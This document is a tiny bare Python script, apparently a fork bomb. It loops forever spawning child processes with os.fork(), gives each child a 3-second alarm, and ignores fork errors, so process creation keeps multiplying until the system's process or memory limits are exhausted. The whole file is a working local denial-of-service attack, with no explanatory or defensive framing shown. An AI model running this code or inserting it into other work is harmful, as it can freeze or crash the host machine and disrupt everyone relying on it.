import os, signal
while True:
    try:
        if os.fork() == 0:
            signal.alarm(3)
    except OSError:
        pass
